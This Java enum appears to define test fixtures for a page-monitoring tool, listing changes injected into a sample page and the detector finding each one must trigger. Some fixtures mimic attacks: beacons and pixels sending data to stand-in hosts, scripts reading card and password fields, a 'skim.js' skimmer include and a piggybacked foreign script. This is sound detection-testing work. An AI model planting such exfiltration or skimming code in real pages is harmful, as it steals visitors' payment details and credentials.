package org.tagwarden.playground.content;

import java.util.Locale;

/**
 * One property of the restless page that somebody changes, and the one finding that has to name it.
 * It is made by asking for {@link #path()}, and stays.
 */
public enum RestlessChange {
  APP_TEXT(
      Where.APP,
      "function more(n){return n+1}more(1);",
      "own script: other text",
      "script-changed",
      "www.restless.example/assets/app"),
  TAG_TEXT(
      Where.TAG,
      "function wave(n){return n*2}wave(2);",
      "tag: other text",
      "script-changed",
      "cdn.restless-tags.example/s.js"),
  APP_EVAL(
      Where.APP,
      "try{eval('1+1')}catch(forbidden){}",
      "own script: eval",
      "script-changed",
      "eval"),
  TAG_NAMES_HOST(
      Where.TAG,
      "var later='https://late.stranger-one.example/x';",
      "tag names a host",
      "script-changed",
      "late.stranger-one.example"),
  APP_SENDS(
      Where.APP,
      "navigator.sendBeacon('https://drop.stranger-two.example/c','d=1');",
      "own script sends to a new host",
      "script-contact",
      "drop.stranger-two.example"),
  TAG_SENDS(
      Where.TAG,
      "new Image().src='https://drop.stranger-three.example/p.gif?d='+Math.random();",
      "tag sends to a new host",
      "script-contact",
      "drop.stranger-three.example"),
  INLINE_SENDS(
      Where.BODY,
      "<script nonce=\"NONCE\">navigator.sendBeacon('https://drop.stranger-four.example/c','d=1');</script>",
      "inline script sends to a new host",
      "script-contact",
      "drop.stranger-four.example"),
  APP_READS_CARD(
      Where.APP,
      "addEventListener('load',function(){return document.getElementById('card').value});",
      "own script reads card numbers",
      "script-read",
      "payment fields"),
  TAG_READS_PASSWORD(
      Where.TAG,
      "addEventListener('load',function(){return document.getElementById('secret').value});",
      "tag reads passwords",
      "sensitive-field-read",
      "cdn.restless-tags.example/s.js"),
  TAG_LISTENS_TO_KEYS(
      Where.TAG,
      "addEventListener('keydown',function(){});",
      "tag listens to keys",
      "script-deed",
      "key listener"),
  INLINE_NEW(
      Where.BODY,
      "<script nonce=\"NONCE\">window.surprise=1;</script>",
      "inline script: new",
      "inline-script-changed",
      "inline script"),
  INLINE_NAMES_HOST(
      Where.BODY,
      "<script nonce=\"NONCE\">var soon='https://inline.stranger-five.example/x.js';</script>",
      "inline script: names a host",
      "inline-script-changed",
      "inline.stranger-five.example"),
  POLICY(
      Where.HEADER,
      "Content-Security-Policy: default-src 'self' https:; script-src 'nonce-NONCE' 'strict-dynamic'; frame-ancestors 'none'; img-src *",
      "CSP: another source",
      "header-changed",
      "Content-Security-Policy"),
  NO_TRANSPORT_SECURITY(
      Where.HEADER,
      "Strict-Transport-Security:",
      "HSTS: gone",
      "security-headers",
      "Strict-Transport-Security"),
  FRAME_OPTIONS(
      Where.HEADER,
      "X-Frame-Options: SAMEORIGIN",
      "X-Frame-Options: weaker",
      "header-changed",
      "X-Frame-Options"),
  NO_PERMISSIONS_POLICY(
      Where.HEADER,
      "Permissions-Policy:",
      "Permissions-Policy: gone",
      "header-changed",
      "Permissions-Policy"),
  REPORTING(
      Where.HEADER,
      "Reporting-Endpoints: main=\"https://www.restless.example/basket\"",
      "Reporting-Endpoints: new",
      "header-changed",
      "Reporting-Endpoints"),
  COOKIE(
      Where.COOKIE,
      "profile=NONCE; Path=/; Secure; HttpOnly; SameSite=Lax",
      "cookie: new",
      "cookie-changed",
      "profile@www.restless.example"),
  COOKIE_FLAGS(
      Where.COOKIE,
      "visitor=NONCE; Path=/; Secure; HttpOnly; SameSite=None",
      "cookie: other flags",
      "cookie-changed",
      "visitor@www.restless.example"),
  TAG_COOKIE(
      Where.PIXEL,
      "uid=stand-in; Path=/; Max-Age=86400; Secure; HttpOnly; SameSite=None",
      "tag's cookie: new",
      "cookie-changed",
      "uid@cdn.restless-tags.example"),
  STORED(
      Where.APP,
      "localStorage.setItem('fingerprint','1');",
      "stored item: new",
      "storage-changed",
      "fingerprint"),
  FRAME(
      Where.BODY,
      "<iframe src=\"https://frames.stranger-six.example/f.html\" title=\"f\"></iframe>",
      "frame of a stranger",
      "new-third-party",
      "frames.stranger-six.example"),
  SCRIPT(
      Where.BODY,
      "<script nonce=\"NONCE\" src=\"https://tags.stranger-seven.example/t.js\"></script>",
      "script of a stranger",
      "unapproved-script",
      "tags.stranger-seven.example/t.js"),
  PIXEL(
      Where.BODY,
      "<img src=\"https://drop.stranger-eight.example/p.gif\" alt=\"\">",
      "pixel of a stranger",
      "new-third-party",
      "drop.stranger-eight.example"),
  OWN_SCRIPT(
      Where.BODY,
      "<script nonce=\"NONCE\" src=\"/assets/extra.js\"></script>",
      "own script: new",
      "script-changed",
      "www.restless.example/assets/extra.js"),
  SKIMMER(
      Where.BODY,
      "<script nonce=\"NONCE\" src=\"https://tags.stranger-nine.example/skim.js\"></script>",
      "script of a stranger that reads card numbers and sends",
      "unapproved-script",
      "reads payment fields"),
  PIGGYBACK(
      Where.TAG,
      "document.head.append(Object.assign(document.createElement('script'),{src:'https://tags.stranger-ten.example/t.js'}));",
      "tag brings a stranger's script along",
      "unapproved-script",
      "tags.stranger-ten.example/t.js"),
  TAG_GONE(Where.NOWHERE, "", "approved tag: gone", "tag-gone", "cdn.steady-tags.example");

  /** What of the page it changes. */
  enum Where {
    /** The site's own script gets a statement more. */
    APP,
    /** Likewise the tag's script. */
    TAG,
    /** The document gets an element more. */
    BODY,
    /** A header of the document has another value; none: it is not sent. */
    HEADER,
    /** A cookie of the document is set like this. */
    COOKIE,
    /** The tag's pixel sets a cookie. */
    PIXEL,
    /** Something is not there any more. */
    NOWHERE
  }

  private final Where where;
  private final String text;
  private final String what;
  private final String check;
  private final String names;

  RestlessChange(Where where, String text, String what, String check, String names) {
    this.where = where;
    this.text = text;
    this.what = what;
    this.check = check;
    this.names = names;
  }

  /** Whoever asks the site for this makes the change. */
  public String path() {
    return "/publish/" + name().toLowerCase(Locale.ROOT);
  }

  /** What changes, for people. */
  public String what() {
    return what;
  }

  /** The check or rule whose finding it has to be. */
  public String check() {
    return check;
  }

  /** What the finding has to name. */
  public String names() {
    return names;
  }

  Where where() {
    return where;
  }

  /** The statement, element, header or cookie. */
  String text() {
    return text;
  }
}
